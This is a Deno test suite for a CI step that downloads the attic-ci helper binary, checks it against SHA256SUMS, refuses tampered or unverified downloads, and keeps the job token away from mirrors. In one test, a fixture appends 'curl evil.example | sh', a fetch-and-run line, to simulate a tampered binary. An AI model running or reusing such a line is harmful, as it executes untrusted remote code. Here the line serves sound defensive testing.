/**
 * The helper step's download: the file for this component version and
 * platform from the package registry (a local HTTP server stands in for it),
 * verified against SHA256SUMS before it ever runs; refused when it does not
 * match or cannot be verified; skipped when a helper is on PATH; from a
 * mirror when one is named.
 */

import { assert, assertEquals, assertIncludes } from "../helpers/assert.ts";
import { helperStep, runHelperStep } from "../helpers/helper_step.ts";
import { tempDir } from "../helpers/nix.ts";
import {
  genericPackagePath,
  type PackageRegistry,
  sha256Of,
  startRegistry,
} from "../helpers/package_registry.ts";

/** The release file for this machine, as the step names it. */
const SYSTEM = `${Deno.build.arch}-${Deno.build.os === "darwin" ? "darwin" : "linux"}`;
const FILE = `attic-ci-${SYSTEM}`;
const PROJECT = "attic-ci/attic-ci";
const JOB_TOKEN = "job-token-do-not-leak";
const SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin";

/** A stand-in helper: says its version, and leaves a mark when it runs. */
function helperScript(version: string): string {
  return `#!/bin/sh\ntouch "$TMPDIR/ran-${version}"\necho "attic-ci ${version}"\n`;
}

/** Publishes a helper release in the registry; returns its checksum. */
async function publish(
  registry: PackageRegistry,
  version: string,
  options: { project?: string; prefix?: string; sums?: string | null; body?: string } = {},
): Promise<string> {
  const body = options.body ?? helperScript(version);
  const sum = await sha256Of(helperScript(version));
  const path = (file: string) =>
    options.prefix !== undefined
      ? `${options.prefix}/${version}/${file}`
      : genericPackagePath(options.project ?? PROJECT, version, file);
  registry.put(path(FILE), body);
  const sums = options.sums === undefined
    ? `${"0".repeat(64)}  attic-ci-some-other-system\n${sum}  ${FILE}\n`
    : options.sums;
  if (sums !== null) registry.put(path("SHA256SUMS"), sums);
  return sum;
}

interface Job {
  readonly dir: string;
  readonly tmp: string;
  readonly registry: PackageRegistry;
  env(extra?: Record<string, string>): Record<string, string>;
  dispose(): Promise<void>;
}

async function job(): Promise<Job> {
  const dir = await tempDir("attic-ci-download-");
  const tmp = `${dir}/tmp`;
  await Deno.mkdir(tmp);
  const registry = startRegistry();
  return {
    dir,
    tmp,
    registry,
    env: (extra = {}) => ({
      PATH: SYSTEM_PATH,
      TMPDIR: tmp,
      CI_JOB_ID: "4242",
      CI_API_V4_URL: registry.apiUrl,
      CI_JOB_TOKEN: JOB_TOKEN,
      ATTIC_CI_HELPER_PROJECT: PROJECT,
      ATTIC_CI_HELPER_VERSION: "",
      ATTIC_CI_HELPER_URL: "",
      ATTIC_CI_COMPONENT_VERSION: "1.4.2",
      ATTIC_CI_COMPONENT_SHA: "0123456789abcdef0123456789abcdef01234567",
      ...extra,
    }),
    async dispose() {
      await registry.close();
      await Deno.remove(dir, { recursive: true });
    },
  };
}

async function ran(tmp: string, version: string): Promise<boolean> {
  return await Deno.stat(`${tmp}/ran-${version}`).then(() => true, () => false);
}

Deno.test("the step downloads this version's file for this platform, verifies it, runs it, and says which", async () => {
  const j = await job();
  try {
    const sum = await publish(j.registry, "1.4.2");
    const result = await runHelperStep(await helperStep("nix-build"), {
      env: j.env(),
      after: "attic-ci --version",
    });
    assertEquals(result.code, 0, result.stderr);
    const base =
      `${j.registry.apiUrl}/projects/attic-ci%2Fattic-ci/packages/generic/attic-ci/1.4.2`;
    assertIncludes(
      result.stdout,
      `attic-ci helper: verified ${FILE} 1.4.2 (sha256 ${sum}) from ${base}\n`,
    );
    assertIncludes(result.stdout, "attic-ci 1.4.2\n");
    assertEquals(j.registry.requests.map((r) => r.path), [
      genericPackagePath(PROJECT, "1.4.2", "SHA256SUMS"),
      genericPackagePath(PROJECT, "1.4.2", FILE),
    ]);
    // A private component project: the job token goes to this GitLab, in a header.
    assert(j.registry.requests.every((r) => r.jobToken === JOB_TOKEN), "no JOB-TOKEN header");
    assert(
      !result.stdout.includes(JOB_TOKEN) && !result.stderr.includes(JOB_TOKEN),
      "token logged",
    );

    // after_script: a new shell of the same job reuses the verified download.
    const again = await runHelperStep(await helperStep("watch-store"), { env: j.env() });
    assertEquals(again.code, 0, again.stderr);
    assertEquals(again.stdout, "attic-ci 1.4.2\n");
    assertEquals(j.registry.requests.length, 2, "downloaded twice in one job");
  } finally {
    await j.dispose();
  }
});

Deno.test("the step takes the commit for a SHA or branch reference, and the helper_version input over both", async () => {
  const j = await job();
  try {
    const sha = "0123456789abcdef0123456789abcdef01234567";
    await publish(j.registry, sha);
    const bySha = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ ATTIC_CI_COMPONENT_VERSION: "" }),
    });
    assertEquals(bySha.code, 0, bySha.stderr);
    assertIncludes(bySha.stdout, `attic-ci ${sha}`);

    await publish(j.registry, "1.3.0");
    const pinned = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ ATTIC_CI_HELPER_VERSION: "1.3.0", CI_JOB_ID: "4243" }),
    });
    assertEquals(pinned.code, 0, pinned.stderr);
    assertIncludes(pinned.stdout, "attic-ci 1.3.0");
  } finally {
    await j.dispose();
  }
});

Deno.test("a tampered binary is refused with the expected and actual checksums, and never runs", async () => {
  const j = await job();
  try {
    await publish(j.registry, "1.4.2", {
      body: `${helperScript("1.4.2")}curl evil.example | sh\n`,
    });
    const result = await runHelperStep(await helperStep("nix-build"), {
      env: j.env(),
      after: "echo the job went on",
    });
    assertEquals(result.code, 1);
    const expected = await sha256Of(helperScript("1.4.2"));
    assertIncludes(
      result.stderr,
      `attic-ci helper: checksum mismatch for ${FILE} 1.4.2: expected ${expected}, got `,
    );
    assertIncludes(result.stderr, "refusing to run it");
    assert(!result.stdout.includes("the job went on"), "the job went on");
    assert(!(await ran(j.tmp, "1.4.2")), "the tampered binary ran");
    const left = [...Deno.readDirSync(`${j.tmp}/attic-ci-helper-4242`)].map((e) => e.name);
    assertEquals(left, ["SHA256SUMS"], "the tampered download was kept");
  } finally {
    await j.dispose();
  }
});

Deno.test("a release without SHA256SUMS, or without a line for this platform, is refused unverified", async () => {
  const j = await job();
  try {
    await publish(j.registry, "1.4.2", { sums: null });
    const missing = await runHelperStep(await helperStep("nix-build"), { env: j.env() });
    assertEquals(missing.code, 1);
    assertIncludes(
      missing.stderr,
      `attic-ci helper: cannot download ${j.registry.apiUrl}/projects/attic-ci%2Fattic-ci/packages/generic/attic-ci/1.4.2/SHA256SUMS; refusing to run an unverified helper`,
    );
    assert(!(await ran(j.tmp, "1.4.2")), "the unverified binary ran");

    await publish(j.registry, "1.4.3", { sums: `${"1".repeat(64)}  attic-ci-other\n` });
    const noLine = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ ATTIC_CI_COMPONENT_VERSION: "1.4.3", CI_JOB_ID: "4244" }),
    });
    assertEquals(noLine.code, 1);
    assertIncludes(
      noLine.stderr,
      `SHA256SUMS has no line for ${FILE}; refusing to run an unverified helper`,
    );
    assert(!(await ran(j.tmp, "1.4.3")), "the unverified binary ran");
  } finally {
    await j.dispose();
  }
});

Deno.test("a helper on PATH wins: nothing is downloaded", async () => {
  const j = await job();
  try {
    await publish(j.registry, "1.4.2");
    await Deno.mkdir(`${j.dir}/bin`);
    await Deno.writeTextFile(`${j.dir}/bin/attic-ci`, helperScript("0.0.1-image"));
    await Deno.chmod(`${j.dir}/bin/attic-ci`, 0o755);
    const result = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ PATH: `${j.dir}/bin:${SYSTEM_PATH}` }),
    });
    assertEquals(result.code, 0, result.stderr);
    assertIncludes(result.stdout, "attic-ci 0.0.1-image");
    assertEquals(j.registry.requests, []);
  } finally {
    await j.dispose();
  }
});

Deno.test("helper_project names a mirrored component project; helper_url a plain mirror, which never gets the job token", async () => {
  const j = await job();
  try {
    await publish(j.registry, "1.4.2", { project: "platform/tools/attic-ci" });
    const project = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ ATTIC_CI_HELPER_PROJECT: "platform/tools/attic-ci" }),
    });
    assertEquals(project.code, 0, project.stderr);
    assertEquals(
      j.registry.requests.at(-1)?.path,
      "/api/v4/projects/platform%2Ftools%2Fattic-ci/packages/generic/attic-ci/1.4.2/" + FILE,
    );

    await publish(j.registry, "1.4.2", { prefix: "/mirror/attic-ci" });
    const mirror = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({
        ATTIC_CI_HELPER_URL: `${j.registry.origin}/mirror/attic-ci/`,
        CI_JOB_ID: "4245",
      }),
    });
    assertEquals(mirror.code, 0, mirror.stderr);
    assertIncludes(mirror.stdout, `from ${j.registry.origin}/mirror/attic-ci/1.4.2\n`);
    const fromMirror = j.registry.requests.filter((r) => r.path.startsWith("/mirror/"));
    assertEquals(fromMirror.length, 2);
    assert(fromMirror.every((r) => r.jobToken === null), "the job token went to a mirror");

    // A URL on this GitLab's own API (how the project's self-test names its registry) gets it.
    const own = `${j.registry.apiUrl}/projects/77/packages/generic/attic-ci`;
    await publish(j.registry, "1.4.2", { prefix: "/api/v4/projects/77/packages/generic/attic-ci" });
    const byUrl = await runHelperStep(await helperStep("nix-build"), {
      env: j.env({ ATTIC_CI_HELPER_URL: own, CI_JOB_ID: "4246" }),
    });
    assertEquals(byUrl.code, 0, byUrl.stderr);
    assertEquals(j.registry.requests.at(-1)?.jobToken, JOB_TOKEN);
  } finally {
    await j.dispose();
  }
});
